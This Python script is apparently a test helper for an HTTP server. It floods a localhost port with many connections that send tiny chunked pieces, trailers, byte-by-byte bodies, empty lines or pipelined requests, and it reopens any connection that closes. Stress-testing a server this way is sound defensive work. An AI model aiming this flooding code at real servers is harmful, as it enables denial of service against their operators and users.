"""An attacker, as a program: connections that send tiny pieces as fast as they are taken.

``python -I tiny_pieces.py PORT KIND CONNECTIONS known|stranger``: prints a line when all of them
are open, and goes on until it is killed. A connection that is closed is opened again.
"""

from __future__ import annotations

import contextlib
import json
import select
import socket
import struct
import sys
import time

ANSWERED = b"POST /generate HTTP/1.1\r\nHost: x\r\nContent-Length: 13\r\n\r\n" + b'{"text": "a"}'
CHUNKED = b"POST %s HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n"
LONG = b"POST /generate HTTP/1.1\r\nHost: x\r\nContent-Length: 7000000\r\n\r\n"
GET = b"GET /nothing HTTP/1.1\r\nHost: x\r\n"
HEADERS = b"".join(b"a%d:\r\n" % number for number in range(100))

KINDS: dict[str, tuple[bytes, bytes]] = {
    "chunks": (CHUNKED % b"/generate", b"1\r\n \r\n" * 40_000),
    "chunks with extensions": (CHUNKED % b"/generate", b"1;a=b\r\n \r\n" * 20_000),
    "chunks to nowhere": (CHUNKED % b"/nothing", b"1\r\n \r\n" * 40_000),
    "chunk by chunk": (CHUNKED % b"/generate", b"1\r\n \r\n"),
    "trailers": (CHUNKED % b"/generate" + b"0\r\n", b"a: b\r\n" * 40_000),
    "byte by byte": (LONG, b" "),
    "head by byte": (GET, b"\r\na:"),
    "empty lines": (b"", b"\r\n" * 100_000),
    "requests": (b"", (GET + b"\r\n") * 8_000),
    "requests with bodies": (b"", ANSWERED * 3_000),
    "headers": (b"", (GET + HEADERS + b"\r\n") * 400),
}
"""What a connection begins with, and what it repeats."""

AGAIN_S = 0.005


class Sender:
    """One connection.

    Args:
        port: Where to.
        kind: What it sends.
        known: Whether it has had a complete request before.
    """

    def __init__(self, port: int, kind: str, known: bool) -> None:
        begin, self._repeated = KINDS[kind]
        self._at = 0
        self.socket = socket.create_connection(("127.0.0.1", port))
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        # What is on its way when it is closed goes with it: the attack ends at once.
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
        if known:
            self.socket.sendall(ANSWERED)
            self.socket.recv(1 << 16)
        self.socket.sendall(begin)
        self.socket.setblocking(False)

    def send(self) -> None:
        with contextlib.suppress(BlockingIOError):
            sent = self.socket.send(self._repeated[self._at :])
            self._at = (self._at + sent) % len(self._repeated)


def main(port: int, kind: str, connections: int, known: bool) -> None:
    """Attack until killed."""
    poll, senders, opened_s = select.epoll(), dict[int, Sender](), 0.0

    def come() -> None:
        sender = Sender(port, kind, known)
        senders[sender.socket.fileno()] = sender
        poll.register(sender.socket, select.EPOLLOUT)

    for _ in range(connections):
        come()
    sys.stdout.write(json.dumps(len(senders)) + "\n")
    sys.stdout.flush()
    while True:
        for number, _ in poll.poll(0.1):
            try:
                senders[number].send()
            except OSError:
                poll.unregister(number)
                senders.pop(number).socket.close()
        if len(senders) < connections and time.monotonic() > opened_s + AGAIN_S:
            opened_s = time.monotonic()
            with contextlib.suppress(OSError):
                come()


if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), sys.argv[4] == "known")
